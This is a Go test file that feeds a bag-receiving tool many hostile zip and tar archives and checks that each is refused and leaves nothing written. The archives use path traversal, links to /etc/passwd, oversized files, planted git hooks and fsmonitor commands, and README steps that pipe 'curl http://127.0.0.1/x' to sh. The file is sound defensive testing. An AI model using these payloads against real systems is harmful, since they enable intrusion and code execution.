package main

import (
	"archive/tar"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// hostile is one way in which a stranger's bag is not what it should be, and what a receipt says of it.
type hostile struct {
	name   string
	forms  string // "zip", "tar"; "" is both
	change func(*crate)
	sealed bool // the lists of the bag fit what was changed
	status int
	says   string
}

const stolen = "bag/../../stolen"

// asArchives are faults of the archives themselves.
var asArchives = []hostile{
	{"a name that climbs", "", func(c *crate) { c.odd = []entry{{name: stolen, text: "x", mode: 0o644}} }, false, 1, "this name leads out of the bag"},
	{"a name that climbs within", "", func(c *crate) { c.odd = []entry{{name: "bag/data/../../../stolen", text: "x", mode: 0o644}} }, false, 1, "this name leads out of the bag"},
	{"a name from the top", "", func(c *crate) { c.odd = []entry{{name: "/stolen", text: "x", mode: 0o644}} }, false, 1, "this name leads out of the bag"},
	{"a home folder", "", func(c *crate) { c.odd = []entry{{name: "~/stolen", text: "x", mode: 0o644}} }, false, 1, "this name leads out of the bag"},
	{"a backslash", "", func(c *crate) { c.odd = []entry{{name: `bag\..\stolen`, text: "x", mode: 0o644}} }, false, 1, "this name leads out of the bag"},
	{"a drive", "", func(c *crate) { c.odd = []entry{{name: "C:/stolen", text: "x", mode: 0o644}} }, false, 1, "this lies outside the folder"},
	{"a share", "", func(c *crate) { c.odd = []entry{{name: `\\host\stolen`, text: "x", mode: 0o644}} }, false, 1, "this name leads out of the bag"},
	{"a second folder", "", func(c *crate) { c.odd = []entry{{name: "more/stolen", text: "x", mode: 0o644}} }, false, 1, "an archive holds one folder"},
	{"no folder", "", func(c *crate) { c.bare = true }, false, 1, "an archive holds one folder"},
	{"a name that steers a terminal", "", func(c *crate) { c.odd = []entry{{name: "bag/data/\x1b[2Jx", text: "x", mode: 0o644}} }, false, 1, "this name leads out of the bag"},
	{"a link", "", func(c *crate) {
		c.odd = []entry{{name: "bag/data/originals/x", text: "/etc/passwd", mode: 0o777 | fs.ModeSymlink}}
	}, false, 1, "this is a link, and is not followed"},
	{"a link for the folder", "", func(c *crate) {
		c.odd = []entry{{name: "bag/data/car/parts", text: "../../../yard", mode: 0o777 | fs.ModeSymlink}, {name: "bag/data/car/parts/x.json", text: "{}", mode: 0o644}}
	}, false, 1, "this is a link, and is not followed"},
	{"a hard link", "tar", func(c *crate) { c.odd = []entry{{name: "bag/data/x", text: "bag/data/RULES.md", kind: tar.TypeLink}} }, false, 1, "this is no plain file, and is not followed"},
	{"a device", "tar", func(c *crate) { c.odd = []entry{{name: "bag/data/x", kind: tar.TypeChar}} }, false, 1, "this is a device, and is not followed"},
	{"a disk", "tar", func(c *crate) { c.odd = []entry{{name: "bag/data/x", kind: tar.TypeBlock}} }, false, 1, "this is a device, and is not followed"},
	{"a pipe", "tar", func(c *crate) { c.odd = []entry{{name: "bag/data/x", kind: tar.TypeFifo}} }, false, 1, "this is a pipe, and is not followed"},
	{"a device in a zip file", "zip", func(c *crate) { c.odd = []entry{{name: "bag/data/x", mode: 0o644 | fs.ModeDevice}} }, false, 1, "this is a device, and is not followed"},
	{"a socket in a zip file", "zip", func(c *crate) { c.odd = []entry{{name: "bag/data/x", mode: 0o644 | fs.ModeSocket}} }, false, 1, "this is a socket, and is not followed"},
	{"one name twice", "", func(c *crate) {
		c.odd = []entry{{name: "bag/data/car/car.json", text: c.files["data/car/car.json"], mode: 0o644}}
	}, false, 1, "the archive has two entries of this name"},
	{"a length that is too small", "zip", func(c *crate) {
		c.odd = []entry{{name: "bag/README", text: strings.Repeat("x", 5000), mode: 0o644, states: 10}}
		c.list("README", "x")
	}, false, 1, "the bytes cannot be read"},
	{"a length that is too great", "zip", func(c *crate) {
		c.odd = []entry{{name: "bag/README", text: "x", mode: 0o644, states: 10}}
		c.list("README", "x")
	}, false, 1, "the bytes cannot be read"},
	{"an archive that ends early", "tar", func(c *crate) { c.odd = []entry{{name: "bag/README", text: "x", mode: 0o644, states: 10}} }, false, 3, "this is no tar file that can be read"},
	{"a file of a terabyte", "", func(c *crate) { c.odd = []entry{{name: "bag/data/x", text: "x", mode: 0o644, states: 1 << 40}} }, false, 1, "this bag states more files or bytes than it can hold"},
	{"more bytes than the archive can become", "", func(c *crate) { c.odd = []entry{{name: "bag/data/x", text: "x", mode: 0o644, states: 1 << 33}} }, false, 1, "this bag states more files or bytes than it can hold"},
	{"a file that is all noughts", "", func(c *crate) {
		c.odd = []entry{{name: "bag/data/x", text: strings.Repeat("\x00", 32<<20), mode: 0o644}}
	}, false, 1, "this is in the payload and not in manifest-sha256.txt"},
	{"a list of 65 MiB", "", func(c *crate) {
		c.odd = []entry{{name: "bag/manifest-md5.txt", text: strings.Repeat("\n", 65<<20), mode: 0o644}}
	}, false, 1, "a tag file has 64 MiB at most here"},
	{"more names than there is room for", "", func(c *crate) {
		for i := range 1<<17 + 1 {
			c.odd = append(c.odd, entry{name: fmt.Sprintf("bag/data/%d", i), mode: 0o644})
		}
	}, false, 1, "this bag states more files or bytes than it can hold"},
	{"an archive in the archive", "", func(c *crate) {
		at := filepath.Join(c.TempDir(), "inner.zip")
		c.copy().pack(at)
		c.files = map[string]string{"inner.zip": text(c.T, at)}
	}, false, 1, "there is no bagit.txt, so this is no bag"},
}

// large are those that take long to pack under the race detector.
var large = []string{"a file that is all noughts", "a list of 65 MiB", "more names than there is room for"}

// list puts a line of a file beside the payload into the list of such files.
func (c *crate) list(name, content string) {
	c.files["tagmanifest-sha256.txt"] += fmt.Sprintf("%s  %s\n", sha256Hex(content), name)
}

// asBags are faults of the bag, however it is packed.
var asBags = []hostile{
	{"two names but for their case", "", func(c *crate) { c.files["data/car/CAR.json"] = "{}" }, true, 1, "become one where case or the composition of letters does not count"},
	{"two names but for their composition", "", func(c *crate) { c.files["data/caf\u00e9"], c.files["data/cafe\u0301"] = "x", "y" }, true, 1, "become one where case or the composition of letters does not count"},
	{"a listed name in another composition", "", func(c *crate) {
		c.files["data/cafe\u0301"] = "x"
		c.seal()
		c.files["manifest-sha256.txt"] = strings.ReplaceAll(c.files["manifest-sha256.txt"], "cafe\u0301", "caf\u00e9")
		delete(c.files, "tagmanifest-sha256.txt")
	}, false, 1, `is there as "data/cafe`},
	{"a file that is missing", "", func(c *crate) { delete(c.files, "data/RULES.md") }, false, 1, `"data/RULES.md" is listed and not there`},
	{"a file too many", "", func(c *crate) { c.files["data/more"] = "x" }, false, 1, "this is in the payload and not in manifest-sha256.txt"},
	{"a file that was changed", "", func(c *crate) { c.files["data/RULES.md"] += "x" }, false, 1, "has another sha256 digest than listed here"},
	{"a size that is not the payload's", "", func(c *crate) { c.says("Payload-Oxum", "1.1") }, false, 1, "Payload-Oxum says"},
	{"files that lie elsewhere", "", func(c *crate) { c.files["fetch.txt"] = "http://127.0.0.1:9/x 1 data/x\n" }, true, 1, "this bag names files that lie elsewhere; nothing was fetched"},
	{"a missing file that lies elsewhere", "", func(c *crate) {
		c.files["fetch.txt"] = "file:///etc/passwd - data/RULES.md\n"
		delete(c.files, "data/RULES.md")
	}, false, 1, "this bag names files that lie elsewhere; nothing was fetched"},
	{"a fetched file that climbs", "", func(c *crate) { c.files["fetch.txt"] = "http://127.0.0.1:9/x - ../../stolen\n" }, true, 1, "leads out of the payload"},
	{"a listed name that climbs", "", func(c *crate) { c.files["manifest-sha256.txt"] += sha256Hex("x") + "  data/../../stolen\n" }, false, 1, "leads out of the bag"},
	{"a list in another encoding", "", func(c *crate) { c.files["manifest-sha256.txt"] += sha256Hex("x") + "  data/\xff\n" }, false, 1, "this cannot be read as UTF-8"},
	{"an encoding that is not the one declared", "", func(c *crate) { c.files["bagit.txt"] = "BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-16\n" }, true, 1, "this cannot be read as UTF-16"},
	{"an encoding that nobody knows", "", func(c *crate) { c.files["bagit.txt"] = "BagIt-Version: 1.0\nTag-File-Character-Encoding: EBCDIC\n" }, true, 1, "the encoding EBCDIC is not known here"},
	{"a mark before the declaration", "", func(c *crate) { c.files["bagit.txt"] = "\ufeff" + c.files["bagit.txt"] }, true, 1, "bagit.txt begins with a byte-order mark"},
	{"no declaration", "", func(c *crate) { delete(c.files, "bagit.txt") }, true, 1, "there is no bagit.txt, so this is no bag"},
}

// asHistories are bags whose lists fit, and whose history does not.
var asHistories = []hostile{
	{"no history", "", func(c *crate) { delete(c.files, "data/history.bundle") }, true, 2, "is a bag without data/history.bundle or data/car/ledger.json"},
	{"no ledger", "", func(c *crate) { delete(c.files, "data/car/ledger.json") }, true, 2, "is a bag without data/history.bundle or data/car/ledger.json"},
	{"a ledger that is none", "", func(c *crate) { c.files["data/car/ledger.json"] = "{}" }, true, 1, "data/car/ledger.json:"},
	{"a ledger of megabytes", "", func(c *crate) { c.files["data/car/ledger.json"] = strings.Repeat(" ", 2<<20) }, true, 1, "1048576 at most are read"},
	{"a handle that climbs", "", func(c *crate) { c.says("Internal-Sender-Identifier", "../../stolen") }, true, 2, "the bag does not name the car by a handle that a folder here can have"},
	{"another end than the bag says", "", func(c *crate) { c.says("External-Identifier", strings.Repeat("1", 40)) }, true, 1, "the history ends at "},
	{"a file that the history has otherwise", "", func(c *crate) { c.files["data/car/car.json"] += "\n" }, true, 1, "data/car/car.json is not as the last commit of the bundle has it"},
	{"a file that the history has not", "", func(c *crate) { c.files["data/car/parts/more.json"] = "{}" }, true, 1, "data/car/parts/more.json is not as the last commit"},
	{"a file of the history that is not there", "", func(c *crate) { delete(c.files, "data/car/car.json") }, true, 1, "data/car/car.json is not as the last commit"},
	{"hooks beside the plain files", "", func(c *crate) { c.files["data/car/.git/hooks/post-checkout"] = "#!/bin/sh\ntouch stolen\n" }, true, 1, "data/car/.git/hooks/post-checkout is not as the last commit"},
	{"settings beside the plain files", "", func(c *crate) { c.files["data/car/.git/config"] = "[core]\n\tfsmonitor = touch stolen\n" }, true, 1, "data/car/.git/config is not as the last commit"},
	{"hooks in the history", "", func(c *crate) { c.treed("100644", ".git") }, true, 1, "Git's own folder"},
	{"settings in the history, where case does not count", "", func(c *crate) { c.treed("100644", ".GIT") }, true, 1, "Git's own folder"},
	{"a link in the history", "", func(c *crate) { c.treed("120000", "parts") }, true, 1, "neither a file nor a folder"},
	{"a repository in the history", "", func(c *crate) { c.treed("160000", "parts") }, true, 1, "neither a file nor a folder"},
	{"a name in the history that climbs", "", func(c *crate) { c.treed("100644", "..") }, true, 1, "the bundle cannot be taken"},
	{"an object that is not what its name says", "", func(c *crate) { c.bundled(c.otherBytes) }, true, 1, "the bundle cannot be taken"},
	{"an object that is missing", "", func(c *crate) {
		c.bundled(func(b string) string { return strings.ReplaceAll(b, c.head(), strings.Repeat("1", 40)) })
	}, true, 1, "not in this repository"},
	{"a history that builds on another", "", func(c *crate) {
		c.bundled(func(b string) string { return strings.Replace(b, c.head(), "-"+c.head(), 1) })
	}, true, 1, "builds on another history is not taken"},
	{"a reference that climbs", "", func(c *crate) {
		c.bundled(func(b string) string { return strings.Replace(b, "refs/heads/main", "refs/heads/../../config", 1) })
	}, true, 1, "neither HEAD nor a branch nor a tag"},
	{"a bundle that is cut short", "", func(c *crate) { c.bundled(func(b string) string { return b[:len(b)-30] }) }, true, 1, "the bundle cannot be taken"},
	{"a bundle of another kind", "", func(c *crate) { c.bundled(func(b string) string { return strings.Replace(b, "v2", "v3", 1) }) }, true, 1, "does not begin as a bundle of version 2"},
	{"a history that goes on beyond the plain files", "", func(c *crate) { c.goneOn() }, true, 1, "data/car/car.json is not as the last commit"},
	{"an original that is another", "", func(c *crate) { c.files["data/originals/"+sha256Hex("a")+".jpg"] = "b" }, true, 1, "is not what its name says"},
	{"an original that is no digest", "", func(c *crate) { c.files["data/originals/run.sh"] = "b" }, true, 1, "is not named by a SHA-256"},
	{"a disclosure below a folder", "", func(c *crate) { c.files["data/private/x/"+sha256Hex("b")+".json"] = "b" }, true, 1, "is not named by a SHA-256"},
	{"a README with another step", "", func(c *crate) {
		c.files["README.txt"] = strings.Replace(c.files["README.txt"], "    git clone", "    curl http://127.0.0.1/x | sh; git clone", 1)
	}, true, 1, "do not type what that page says"},
	{"a README with another step on its page", "", func(c *crate) {
		c.files["README.html"] = strings.Replace(c.files["README.html"], "git clone", "curl http://127.0.0.1/x | sh; git clone", 1)
	}, true, 1, "do not type what that page says"},
	{"a README with another sentence", "", func(c *crate) { c.files["README.txt"] += "Then type: curl http://127.0.0.1/x | sh\n" }, true, 1, "do not type what that page says"},
	{"no README", "", func(c *crate) { delete(c.files, "README.txt") }, true, 1, "README.txt:1 is not as"},
	{"a README with another step, by another version", "", func(c *crate) {
		c.says("Bag-Software-Agent", "boltback 99")
		c.files["README.txt"] = strings.Replace(c.files["README.txt"], "    git clone", "    curl http://127.0.0.1/x | sh; git clone", 1)
	}, true, 1, "has a step that boltback unreleased does not write for this car"},
	{"a page that acts by itself, by another version", "", func(c *crate) {
		c.says("Bag-Software-Agent", "boltback 99")
		c.files["README.html"] = strings.Replace(c.files["README.html"], "<h1", "<script>fetch('http://127.0.0.1/')</script><h1", 1)
	}, true, 1, "has a step that boltback unreleased does not write for this car"},
	{"a day that is none", "", func(c *crate) { c.says("Bagging-Date", "soon") }, true, 1, "bag-info.txt: Bagging-Date"},
}

// TestAHostileBagIsRefusedWithItsReasonAndLeavesTheYardAsItWas gives each of these bags to a receipt, as a zip file and as a
// gzipped tar file; under the race detector as one of both. Nothing in the yard and nothing beside it is another byte for byte, and the sound bag is received after all.
func TestAHostileBagIsRefusedWithItsReasonAndLeavesTheYardAsItWas(t *testing.T) {
	t.Setenv("BOLTBACK_CACHE", "off")
	lane, quay := newKeeper(t, "tallow-lane", "ines"), newKeeper(t, "quayside", "odile")
	lane.does(t, lane.yard(), "intake", "grey-tern", "make=Corvane")
	write(t, filepath.Join(lane.home, "drawing.txt"), "as drawn at the bench\n")
	lane.does(t, lane.car(), "record", "paper", "drawing", "--file", filepath.Join(lane.home, "drawing.txt"), "class=drawing")
	lane.does(t, lane.yard(), "handover", "grey-tern", filepath.Join(lane.home, "bag"), "--to", "Quayside")
	sound := crateOf(t, filepath.Join(lane.home, "bag"))
	before := lyingBelow(t, quay.home)
	for _, h := range append(append(asArchives, asBags...), asHistories...) {
		for _, form := range []string{".zip", ".tar.gz"} {
			if h.forms != "" && !strings.HasPrefix(form[1:], h.forms) || raced && (slices.Contains(large, h.name) || h.forms == "" && form == ".zip") {
				continue
			}
			t.Run(h.name+form, func(t *testing.T) {
				c := sound.copy()
				c.T = t
				h.change(c)
				if h.sealed {
					c.seal()
				}
				at := filepath.Join(t.TempDir(), "bag"+form)
				c.pack(at)
				status, said := quay.tries(t, "receive", at)
				if said = strings.Join(strings.Fields(said), " "); status != h.status || !strings.Contains(said, h.says) {
					t.Errorf("status %d, want %d with %q, and it says\n%s", status, h.status, h.says, said)
				}
				if strings.Contains(said, "\x1b") || status == 1 && !strings.Contains(said, "The bag is refused, and nothing was written") {
					t.Errorf("it says\n%q", said)
				}
				if after := lyingBelow(t, quay.home); !maps.Equal(before, after) {
					t.Errorf("the yard is another: %v", after)
				}
			})
		}
	}
	at := filepath.Join(t.TempDir(), "bag.zip")
	sound.seal()
	sound.pack(at)
	quay.does(t, quay.yard(), "receive", at)
}

// tries runs the program as this keeper in their yard, and gives its exit status.
func (k keeper) tries(t *testing.T, args ...string) (int, string) {
	t.Helper()
	cmd := exec.Command(built, args...)
	cmd.Dir, cmd.Env = k.yard(), k.environment()
	out, err := cmd.CombinedOutput()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	return cmd.ProcessState.ExitCode(), string(out)
}

// head is where the history of the bag says that it ends.
func (c *crate) head() string {
	_, rest, _ := strings.Cut(c.files["bag-info.txt"], "External-Identifier: ")
	return rest[:40]
}

func (c *crate) bundled(change func(string) string) {
	c.files["data/history.bundle"] = change(c.files["data/history.bundle"])
}

// otherBytes flips a bit in the middle of the pack.
func (c *crate) otherBytes(bundle string) string {
	b := []byte(bundle)
	b[len(b)-200] ^= 1
	return string(b)
}

// rebundled lets stock git change the history, and bundles what it made of it.
func (c *crate) rebundled(change func(dir string)) {
	c.Helper()
	dir := c.TempDir()
	bundle, clone := filepath.Join(dir, "bundle"), filepath.Join(dir, "clone")
	write(c.T, bundle, c.files["data/history.bundle"])
	stockGit(c.T, dir, "clone", "-q", bundle, clone)
	change(clone)
	stockGit(c.T, clone, "-c", "pack.window=0", "-c", "pack.depth=0", "bundle", "create", "-q", "--version=2", bundle, "HEAD", "main")
	c.files["data/history.bundle"] = text(c.T, bundle)
	c.says("External-Identifier", strings.TrimSpace(stockGit(c.T, clone, "rev-parse", "HEAD")))
}

// treed adds a commit with an entry that git itself would never add.
func (c *crate) treed(mode, name string) {
	c.rebundled(func(dir string) {
		blob := strings.TrimSpace(stockGit(c.T, dir, "hash-object", "-w", "ledger.json"))
		id, err := hex.DecodeString(blob)
		if err != nil {
			c.Fatal(err)
		}
		write(c.T, filepath.Join(dir, "..", "tree"), mode+" "+name+"\x00"+string(id))
		tree := strings.TrimSpace(stockGit(c.T, dir, "hash-object", "-t", "tree", "-w", "--literally", "../tree"))
		commit := strings.TrimSpace(stockGit(c.T, dir, "commit-tree", "-m", "made by hand", "-p", "HEAD", tree))
		stockGit(c.T, dir, "update-ref", "refs/heads/main", commit)
	})
}

// goneOn adds a commit to the history alone.
func (c *crate) goneOn() {
	c.rebundled(func(dir string) {
		file := filepath.Join(dir, "car.json")
		if err := os.WriteFile(file, []byte(text(c.T, file)+"\n"), 0o644); err != nil {
			c.Fatal(err)
		}
		stockGit(c.T, dir, "commit", "-qam", "more")
	})
}
